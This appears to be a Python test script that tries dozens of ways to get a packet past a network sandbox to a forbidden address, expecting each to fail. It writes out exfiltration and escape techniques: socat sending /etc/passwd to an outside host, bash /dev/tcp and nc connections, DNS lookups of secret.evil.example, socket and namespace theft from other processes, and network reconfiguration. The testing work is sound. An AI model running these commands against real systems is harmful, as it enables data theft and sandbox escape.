# One way each to get a packet to where none may go, or a socket that could: `attempts.py NAME`. Errors of the kernel are
# what is hoped for; any other failure is one of the test's.
import array, base64, ctypes, ctypes.util, errno, fcntl, mmap, os, select, signal, socket, struct, subprocess, sys, threading, time

libc = ctypes.CDLL(None, use_errno=True)
F4, F6, UNIX, T, U = socket.AF_INET, socket.AF_INET6, socket.AF_UNIX, socket.SOCK_STREAM, socket.SOCK_DGRAM
GOOD, BAD, BAD6, HOST = ("203.0.113.10", 443), ("203.0.113.12", 443), ("2001:db8:1::10", 80), 5432
MAPPED, HOLDER = ("::ffff:203.0.113.12", 443), int(os.environ["HOLDER"])
WAYS, FASTOPEN = {}, 0x20000000

def way(do):
    WAYS[do.__name__] = do
    return do

def attempt(do, *args, **options):
    try: return do(*args, **options)
    except (OSError, socket.gaierror, UnicodeError): return None

def checked(result):
    if result < 0: raise OSError(ctypes.get_errno(), "")
    return result

def syscall(*args): return checked(libc.syscall(*[ctypes.c_long(a) if isinstance(a, int) else a for a in args]))

def sock(family=F4, kind=T, protocol=0, *options):
    s = socket.socket(family, kind, protocol)
    s.settimeout(2)
    for option in options: attempt(lambda: s.setsockopt(*option))
    return s

def connect(s, at):
    s.connect(at)
    attempt(s.send, b"x")

# So often, and so long that whoever races has had its turns on a busy machine, too.
def tries(count):
    end = time.monotonic() + 0.5
    while count > 0 or time.monotonic() < end: yield; count -= 1

def made(at, family=None):
    family = family or (F6 if ":" in at[0] else F4)
    real = F6 if ":" in at[0] else F4
    head = struct.pack("=HH", family, socket.htons(at[1]))
    return head + (socket.inet_pton(F4, at[0]) + bytes(8) if real == F4 else bytes(4) + socket.inet_pton(F6, at[0]) + bytes(4))

def unspecified(s): checked(libc.connect(s.fileno(), struct.pack("H", 0) + bytes(14), 16))

def sendto(s, address, flags=0, data=b"raw"): checked(libc.sendto(s.fileno(), data, len(data), flags, address, len(address)))

class Message:
    def __init__(self, address):
        self.data, self.name = ctypes.create_string_buffer(b"many", 4), ctypes.create_string_buffer(address, len(address))
        self.part = ctypes.create_string_buffer(struct.pack("QQ", ctypes.addressof(self.data), 4))
        self.head = struct.pack("=QIIQQQQII", ctypes.addressof(self.name), len(address), 0, ctypes.addressof(self.part), 1, 0, 0, 0, 0)

def sendmmsg(s, addresses, flags=0):
    messages = [Message(address) for address in addresses]
    vector = ctypes.create_string_buffer(b"".join(m.head + bytes(8) for m in messages))
    checked(libc.sendmmsg(s.fileno(), vector, len(messages), flags))

# Connections.

@way
def connect_v4(): connect(sock(), BAD)

@way
def connect_nonblocking():
    s = sock(); s.setblocking(False); s.connect_ex(BAD); select.select([], [s], [], 1); attempt(s.send, b"x")

@way
def connect_mapped(): connect(sock(F6), MAPPED)

@way
def connect_v6(): connect(sock(F6), BAD6)

@way
def connect_v4_address_on_v6():
    for kind in (T, U):
        s = sock(F6, kind); attempt(lambda: checked(libc.connect(s.fileno(), made(BAD), 16))); attempt(s.send, b"x")

@way
def connect_with_zone():
    for zone in ("near", "lo"): attempt(connect, sock(F6), socket.getaddrinfo(f"{os.environ['LINK']}%{zone}", 443, F6, T, 0, socket.AI_NUMERICHOST)[0][4]) if zone in [n for _, n in socket.if_nameindex()] else None

@way
def connect_long_and_short_addresses():
    for address in (made(BAD) + bytes(112), made(BAD)[:8], made(MAPPED)[:24], made(MAPPED) + bytes(100)):
        s = sock(F6 if len(address) in (24, 128) else F4); attempt(lambda: checked(libc.connect(s.fileno(), address, len(address)))); attempt(s.send, b"x")

@way
def connect_by_fast_open_option(): connect(sock(F4, T, 0, (6, 30, 1)), BAD)

@way
def connect_bound_to_device(): connect(sock(F4, T, 0, (1, 25, b"near\0")), BAD)

@way
def connect_by_mptcp(): connect(sock(F4, T, 262), BAD)

@way
def connect_repaired():
    s = sock(F4, T, 0, (6, 19, 1)); attempt(s.connect, BAD); attempt(s.setsockopt, 6, 19, 0); attempt(s.send, b"x")

@way
def connect_transparently(): connect(sock(F4, T, 0, (0, 19, 1), (0, 15, 1)), BAD)

@way
def connect_marked(): connect(sock(F4, T, 0, (1, 36, 7), (1, 12, 6)), BAD)

@way
def connect_again_after_a_connection():
    s = sock(); s.connect(GOOD); unspecified(s); connect(s, BAD)

@way
def connect_a_listener_or_what_it_accepted():
    l = sock(); l.bind(("127.0.0.1", 0)); l.listen(); c = sock(); c.connect(l.getsockname()); a, _ = l.accept()
    for s in (a, c, l):
        attempt(s.shutdown, 2); attempt(unspecified, s); attempt(connect, s, BAD)

@way
def connect_a_socket_that_was_handed_on():
    (a, b), fresh = socket.socketpair(), sock(); socket.send_fds(a, [b"x"], [fresh.fileno()])
    connect(socket.socket(fileno=socket.recv_fds(b, 9, 1)[1][0]), BAD)

@way
def connect_an_inherited_socket(): connect(socket.socket(fileno=7), BAD)

@way
def connect_in_a_race_of_threads():
    shared, run = ctypes.create_string_buffer(made(GOOD), 16), [True]
    def turn():
        while run: ctypes.memmove(shared, made(BAD), 16); ctypes.memmove(shared, made(GOOD), 16)
    threads = [threading.Thread(target=turn) for _ in range(2)]
    for t in threads: t.start()
    for _ in tries(60):
        s = sock(); libc.connect(s.fileno(), shared, 16); u = sock(F4, U); libc.sendto(u.fileno(), b"r", 1, 0, shared, 16)
    run.clear()
    for t in threads: t.join()

@way
def connect_in_a_race_of_processes():
    page = mmap.mmap(-1, 4096); place = ctypes.addressof(ctypes.c_char.from_buffer(page))
    child = os.fork()
    if child == 0:
        while True: page[0:16] = made(BAD); page[0:16] = made(GOOD)
    while page[0] == 0: time.sleep(0.001)
    for _ in tries(200):
        s = sock(); libc.connect(s.fileno(), ctypes.c_void_p(place), 16); s.close()
    os.kill(child, 9); os.waitpid(child, 0)

@way
def send_in_a_race_for_the_number():
    good = sock(); good.connect(GOOD); free = sock(F4, U); os.dup2(good.fileno(), 50)
    child = libc.syscall(56, 0x400 | 17, 0, 0, 0, 0)
    if child == 0:
        while True: os.dup2(free.fileno(), 50); os.dup2(good.fileno(), 50)
    bad = Message(made(BAD)); head, end = ctypes.create_string_buffer(bad.head), time.monotonic() + 1
    while time.monotonic() < end: libc.sendmsg(50, head, 0x4000)
    os.kill(child, 9); os.waitpid(child, 0)

@way
def connect_to_this_machine():
    for at in ("127.0.0.1", "127.9.9.9", "0.0.0.0", "192.0.2.1", "localhost"): attempt(connect, sock(), (at, HOST))
    for at in ("::1", "::", "::ffff:127.0.0.1", "::ffff:0.0.0.0", "2001:db8:2::1"): attempt(connect, sock(F6), (at, HOST))

# Datagrams, and data with an address.

@way
def datagrams_with_an_address():
    u, six = sock(F4, U), sock(F6, U)
    for do in (lambda: u.sendto(b"x", BAD), lambda: u.sendmsg([b"x", b"y"], [], 0, BAD), lambda: sendmmsg(u, [made(BAD)] * 2), lambda: sendmmsg(u, [made(GOOD), made(BAD)]),
               lambda: sendto(u, made(BAD, 0xffff & 0)), lambda: sendto(u, struct.pack("=H", 0) + made(BAD)[2:]), lambda: six.sendto(b"x", MAPPED), lambda: sendto(six, made(BAD)), lambda: six.sendto(b"x", BAD6)):
        attempt(do)

@way
def datagrams_of_a_connected_socket():
    u = sock(F4, U); u.connect(GOOD)
    for do in (lambda: u.sendto(b"x", BAD), lambda: u.sendmsg([b"x"], [], 0, BAD), lambda: sendmmsg(u, [made(BAD)]), lambda: unspecified(u), lambda: connect(u, BAD)): attempt(do)

@way
def datagrams_of_an_inherited_socket():
    u = socket.socket(fileno=8)
    for do in (lambda: u.sendto(b"x", BAD), lambda: u.sendmsg([b"x"], [], 0, BAD), lambda: sendmmsg(u, [made(BAD)]), lambda: connect(u, BAD)): attempt(do)

@way
def data_that_opens_a_connection():
    for do in (lambda: sock().sendto(b"x", FASTOPEN, BAD), lambda: sock().sendmsg([b"x"], [], FASTOPEN, BAD), lambda: sendmmsg(sock(), [made(BAD)], FASTOPEN), lambda: sock(F6).sendto(b"x", FASTOPEN, MAPPED)): attempt(do)

@way
def datagrams_without_a_copy():
    u = sock(F4, U, 0, (1, 60, 1)); attempt(u.sendto, b"x", 0x4000000, BAD)
    u.connect(BAD); r, w = os.pipe(); os.write(w, b"data"); attempt(os.splice, r, u.fileno(), 4)
    with open("data", "wb") as f: f.write(b"data")
    with open("data", "rb") as f: attempt(os.sendfile, u.fileno(), f.fileno(), 0, 4)

@way
def datagrams_of_a_socket_that_was_of_another_family():
    s = sock(F6, U); s.connect(("::ffff:203.0.113.10", 443)); s.setsockopt(41, 1, F4); s = socket.socket(fileno=s.detach())
    attempt(s.sendto, b"x", BAD); connect(s, BAD)

@way
def datagrams_to_everybody():
    for at in ("255.255.255.255", "192.0.2.255"): attempt(sock(F4, U, 0, (1, 6, 1)).sendto, b"x", (at, 443))
    for at in ("224.0.0.251", "239.255.255.250"): attempt(sock(F4, U).sendto, b"x", (at, 5353))
    index = socket.if_nameindex()[-1][0]
    for at in ("ff02::fb", "ff02::1"): attempt(sock(F6, U).sendto, b"x", (at, 5353, 0, index))

@way
def datagrams_by_a_source_route():
    route = bytes([131, 7, 4]) + socket.inet_aton(BAD[0]) + b"\0"
    u = sock(F4, U); u.connect(GOOD); attempt(u.sendmsg, [b"x"], [(0, 7, route)]); attempt(u.setsockopt, 0, 4, route); attempt(u.send, b"x") if u.getsockopt(0, 4, 40) else None
    s = sock(); attempt(s.setsockopt, 0, 4, route)
    if s.getsockopt(0, 4, 40): attempt(connect, s, GOOD)

@way
def datagrams_by_a_routing_header():
    to = ("2001:db8:1::10", 443)
    for kind, header in ((57, struct.pack("BBBBI16s", 0, 2, 2, 1, 0, socket.inet_pton(F6, "2001:db8:1::12"))), (57, struct.pack("BBBBBBH16s", 0, 2, 4, 0, 0, 0, 0, socket.inet_pton(F6, "2001:db8:1::12")) )):
        for number in (5, kind):
            u = sock(F6, U); attempt(u.sendmsg, [b"x"], [(41, number, header)], 0, to)
            try: u.setsockopt(41, number, header)
            except OSError: continue
            attempt(u.sendto, b"x", to)

# Sockets of other kinds.

def ip_packet(protocol, body):
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, 0, 64, protocol, 0, socket.inet_aton("192.0.2.1"), socket.inet_aton(BAD[0]))
    total = sum(struct.unpack(">10H", head)); total = (total & 0xffff) + (total >> 16)
    return head[:10] + struct.pack(">H", ~total & 0xffff) + head[12:] + body

@way
def raw_sockets():
    udp = struct.pack(">HHHH", 9, 443, 9, 0) + b"x"
    attempt(lambda: sock(F4, 3, 17).sendto(udp, (BAD[0], 0))); attempt(lambda: sock(F4, 3, 255).sendto(ip_packet(17, udp), (BAD[0], 0)))
    attempt(lambda: sock(F4, 3, 1).sendto(bytes([8, 0, 0xf7, 0xff, 0, 0, 0, 0]), (BAD[0], 0))); attempt(lambda: sock(F6, 3, 17).sendto(udp, (BAD6[0], 0)))

@way
def packet_sockets():
    packet = ip_packet(17, struct.pack(">HHHH", 9, 443, 9, 0) + b"x")
    for _, name in socket.if_nameindex():
        attempt(lambda: socket.socket(17, U, 0).sendto(packet, (name, 0x0800, 0, 0, b"\xff" * 6)))
        attempt(lambda: socket.socket(17, 3, 0).sendto(b"\xff" * 6 + b"\2" * 6 + b"\x08\0" + packet, (name, 0x0800)))
        attempt(lambda: sendto(socket.socket(F4, 10, 0x0008), struct.pack("=H14s", 17, name.encode()), 0, b"\xff" * 6 + b"\2" * 6 + b"\x08\0" + packet))

@way
def echo_requests():
    request = struct.pack("BBHHH", 8, 0, 0, 0, 1)
    attempt(lambda: sock(F4, U, 1).sendto(request, (BAD[0], 0))); attempt(lambda: connect(sock(F4, U, 1), (BAD[0], 0)))
    attempt(lambda: sock(F6, U, 58).sendto(bytes([128]) + request[1:], ("2001:db8:1::12", 0)))
    attempt(subprocess.run, ["ping", "-c", "1", "-W", "1", BAD[0]], stdout=-3, stderr=-3)

@way
def sctp():
    for kind in (T, 5): attempt(lambda: connect(sock(F4, kind, 132), BAD))

@way
def dccp(): connect(sock(F4, 6, 33), BAD)

@way
def udp_lite():
    attempt(lambda: sock(F4, U, 136).sendto(b"x", BAD)); connect(sock(F4, U, 136), BAD)

@way
def smc():
    for protocol in (0, 1, 2, 3): attempt(lambda: connect(sock(43, T, protocol), BAD))

@way
def any_other_socket():
    stay = {1, 2, 10, 16}
    for family in range(3, 64):
        for kind in (1, 2, 3, 4, 5, 6, 10):
            for protocol in (0, 1, 2, 3):
                try: socket.socket(family, kind, protocol).close()
                except (OSError, ValueError): continue
                if family not in stay: print(f"made a socket of family {family}, type {kind}, protocol {protocol}")
                elif family == 16 and protocol not in (0, ): print(f"made a netlink socket of protocol {protocol}")

@way
def calls_of_other_machines():
    # socketcall(2) of 32 bits by `int 0x80`, and those of x32.
    page = mmap.mmap(-1, 8192, 0x22 | 0x40, 7)
    base = ctypes.addressof(ctypes.c_char.from_buffer(page))
    page[0:12] = bytes.fromhex("5389f889f389d1cd805bc390")
    call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_uint, ctypes.c_uint, ctypes.c_uint)(base)
    at = base + 4096
    def socketcall(number, *words):
        page[4096:4096 + 4 * len(words)] = struct.pack(f"{len(words)}I", *words)
        return call(102, number, at)
    page[4200:4216] = made(BAD)
    for kind in (1, 2):
        fd = socketcall(1, 2, kind, 0)
        if fd < 0: fd = sock(F4, kind).detach()
        socketcall(3, fd, base + 4200, 16)
        page[4300:4301] = b"x"; socketcall(11, fd, base + 4300, 1, 0, base + 4200, 16)
        attempt(os.write, fd, b"x")
    s = sock(); libc.syscall(0x40000000 | 42, s.fileno(), made(BAD), 16); attempt(s.send, b"x")

@way
def io_uring():
    params = ctypes.create_string_buffer(120); ring = syscall(425, 4, params)
    entries, sq = struct.unpack_from("I", params, 0)[0], struct.unpack_from("8I", params, 40)
    queue, calls = mmap.mmap(ring, sq[6] + 4 * entries), mmap.mmap(ring, 64 * entries, offset=0x10000000)
    s, address = sock(), ctypes.create_string_buffer(made(BAD), 16); s.setblocking(True)
    calls[0:64] = struct.pack("=BBHiQQI", 16, 0, 0, s.fileno(), 16, ctypes.addressof(address), 0) + bytes(36)
    queue[sq[6]:sq[6] + 4] = bytes(4); queue[sq[1]:sq[1] + 4] = struct.pack("I", 1)
    syscall(426, ring, 1, 1, 1, 0, 0); attempt(s.send, b"x")

# Other people's sockets and networks.

@way
def a_socket_from_outside_by_message():
    for at in ("/tmp/outside/socket", "\0outside"):
        u = sock(UNIX); attempt(u.connect, at)
        _, fds, _, _ = attempt(socket.recv_fds, u, 9, 1) or (0, [], 0, 0)
        for fd in fds: attempt(os.write, fd, b"x")

@way
def a_socket_of_another_process():
    for open_one in (lambda: syscall(438, os.pidfd_open(HOLDER), 9, 0), lambda: os.open(f"/proc/{HOLDER}/fd/9", os.O_RDWR)):
        fd = attempt(open_one)
        if fd is not None: attempt(os.write, fd, b"x")

def elsewhere():
    s = sock(); attempt(connect, s, BAD); attempt(sock(F4, U).sendto, b"x", BAD)
    attempt(connect, sock(), ("127.0.0.1", HOST))

@way
def the_network_of_another_process():
    for path in (f"/proc/{HOLDER}/ns/net", "/proc/1/ns/net", "/proc/self/ns/net"):
        fd = attempt(os.open, path, os.O_RDONLY)
        if fd is not None and libc.setns(fd, 0) == 0: elsewhere()
    if attempt(lambda: checked(libc.setns(os.pidfd_open(HOLDER), 0x40000000))) == 0: elsewhere()
    attempt(subprocess.run, ["nsenter", "-n", "-t", str(HOLDER), sys.executable, *sys.argv[:1], "connect_v4"], stdout=-3, stderr=-3)

@way
def a_network_of_ones_own():
    for flags in (0x40000000, 0x10000000 | 0x40000000, 0x10000000):
        if libc.unshare(flags) == 0: print(f"has namespaces of its own: {flags:#x}")
    for program in (["unshare", "-n", "true"], ["unshare", "-Un", "true"], ["ip", "netns", "add", "other"]):
        if subprocess.run(program, stdout=-3, stderr=-3).returncode == 0: print("ran", program)

def network():
    texts = ("-o link", "-o addr", "route show table all", "rule")
    return "".join(subprocess.run(["ip", *text.split()], capture_output=True, text=True).stdout for text in texts).splitlines()

def rtnetlink(how):
    # RTM_NEWADDR, `NLM_F_REQUEST | NLM_F_CREATE`: an address of somebody else's on lo.
    body = struct.pack("=BBBBI", 2, 32, 0, 0, 1) + struct.pack("=HH4s", 8, 2, socket.inet_aton(BAD[0])) + struct.pack("=HH4s", 8, 1, socket.inet_aton(BAD[0]))
    message = struct.pack("=IHHII", 16 + len(body), 20, 0x401, 1, 0) + body
    n = socket.socket(16, 3, 0)
    if how == "connected": n.connect((0, 0)); n.send(message)
    elif how == "to a group": n.sendto(message, (0, 1))
    elif how == "by sendmsg": n.sendmsg([message], [], 0, (0, 0))
    elif how == "without an address": n.sendmsg([message])
    else: n.sendto(message, (0, 0))

@way
def changes_of_the_network():
    before = network()
    for _ in range(2):
        for how in ("plainly", "connected", "to a group", "by sendmsg", "without an address"): attempt(rtnetlink, how)
        hold = threading.Event(); threading.Thread(target=hold.wait, daemon=True).start()
    for text in ("route add 203.0.113.77/32 dev lo", "addr add 203.0.113.12/32 dev lo", "link add other type dummy", "link add two type veth", "link set lo down", "tuntap add mode tun name tun9",
                 "neigh add 192.0.2.9 lladdr 02:00:00:00:00:09 dev near", "rule add from all lookup 99", "-6 route add 2001:db8:9::/64 dev lo", "link set near down", "link add w type wireguard"):
        attempt(subprocess.run, ["ip", *text.split()], stdout=-3, stderr=-3)
    attempt(subprocess.run, ["nft", "add table inet other"], stdout=-3, stderr=-3)
    s = sock(F4, U); name = b"lo".ljust(16, b"\0")
    for request, rest in ((0x8916, made(("203.0.113.12", 0))), (0x8914, struct.pack("H", 0)), (0x8922, struct.pack("i", 900)), (0x890b, b"")):
        attempt(fcntl.ioctl, s, request, name + rest.ljust(24, b"\0"))
    attempt(fcntl.ioctl, s, 0x890b, struct.pack("Q", 0) + made(("203.0.113.77", 0)) + made(("192.0.2.2", 0)) + made(("255.255.255.255", 0)) + struct.pack("=H", 7) + bytes(64))
    tun = attempt(os.open, "/dev/net/tun", os.O_RDWR)
    if tun is not None and attempt(fcntl.ioctl, tun, 0x400454ca, struct.pack("16sH", b"tun8", 0x1001) + bytes(22)): print("has a tunnel")
    after = network()
    for line in {*before} ^ {*after}: print("the network is another inside:", line.strip())

@way
def settings_of_the_network():
    for path in ("ipv4/ip_forward", "ipv4/conf/all/accept_source_route", "ipv4/ip_unprivileged_port_start", "ipv4/tcp_fastopen"):
        def write():
            with open("/proc/sys/net/" + path, "r+") as f: f.write("1")
        attempt(write)
    attempt(subprocess.run, ["sysctl", "-qw", "net.ipv4.ip_forward=1"], stdout=-3, stderr=-3)

# Names.

def question(name, kind=1):
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l for l in name.encode().split(b".")) + b"\0" + struct.pack(">HH", kind, 1)

def ask(at, name, kind=1):
    s = sock(F6 if ":" in at else F4, U); s.settimeout(0.3); s.sendto(question(name, kind), (at, 53)); attempt(s.recv, 999)
    t = sock(F6 if ":" in at else F4); t.settimeout(0.3); t.connect((at, 53)); q = question(name, kind); t.sendall(struct.pack(">H", len(q)) + q); attempt(t.recv, 999)

@way
def names_that_carry_something_out():
    for at in ("198.51.100.53", "203.0.113.12", "127.0.0.1", "::1", "2001:db8:1::10", "192.0.2.1"):
        for kind in (1, 28, 16, 65, 255, 10): attempt(ask, at, "secret.evil.example", kind)
    attempt(socket.getaddrinfo, "secret.evil.example", 443); attempt(socket.gethostbyname, "secret.evil.example")
    for text in ("getent hosts secret.evil.example", "ping -c1 -W1 secret.evil.example", "dig +time=1 +tries=1 secret.evil.example", "dig +time=1 +tries=1 @203.0.113.12 secret.evil.example", "dig +tcp +time=1 +tries=1 @203.0.113.12 secret.evil.example",
                 "busybox nslookup secret.evil.example 203.0.113.12", "curl -s -m 2 http://secret.evil.example/"):
        attempt(subprocess.run, ["timeout", "3", *text.split()], stdout=-3, stderr=-3)

@way
def names_by_other_ports():
    for port in (853, 784, 5353, 5355, 137): attempt(lambda: sock(F4, U).sendto(question("secret.evil.example"), (BAD[0], port)))
    attempt(connect, sock(), (BAD[0], 853)); attempt(subprocess.run, ["curl", "-sk", "-m", "2", "https://203.0.113.12/dns-query?dns=AAAB"], stdout=-3, stderr=-3)

@way
def a_public_name_that_leads_inside():
    for name in ("here.example.org", "meta.example.org", "mapped.example.org"):
        for family in (F4, F6):
            for at in attempt(socket.getaddrinfo, name, 443, family, T) or []:
                for port in (443, HOST, 80): attempt(connect, sock(at[0]), (at[4][0], port, *at[4][2:]))

# Programs, and what a shell has built in.

def shell(program, text): attempt(subprocess.run, ["timeout", "4", program, "-c", text], stdout=-3, stderr=-3)

@way
def built_into_shells():
    shell("bash", "exec 3<>/dev/tcp/203.0.113.12/443; echo x >&3"); shell("bash", "echo x >/dev/udp/203.0.113.12/443")
    shell("zsh", "zmodload zsh/net/tcp; ztcp 203.0.113.12 443; echo x >&$REPLY")

@way
def programs():
    os.environ.pop("http_proxy", None)
    for text in ("curl -s -m 3 http://203.0.113.12:443/", "env -i /usr/bin/curl -s -m 3 http://203.0.113.12:443/", "socat -u OPEN:/etc/passwd UDP:203.0.113.12:443", "nc -w 2 203.0.113.12 443 </dev/null",
                 "busybox wget -T 2 -q -O - http://203.0.113.12:443/", "ssh -o BatchMode=yes -o ConnectTimeout=2 -p 443 203.0.113.12 true", "git ls-remote http://203.0.113.12:443/x", "perl -MIO::Socket -e 'IO::Socket::INET->new(q(203.0.113.12:443))'",
                 "node -e \"fetch('http://203.0.113.12:443/').catch(()=>0)\"", "openssl s_client -connect 203.0.113.12:443 </dev/null"):
        shell("sh", text)

WAYS[sys.argv[1]] and attempt(WAYS[sys.argv[1]])
print("tried", flush=True)
print(attempt(lambda: [s := sock(), s.connect(GOOD), s.recv(6).decode()][2]))
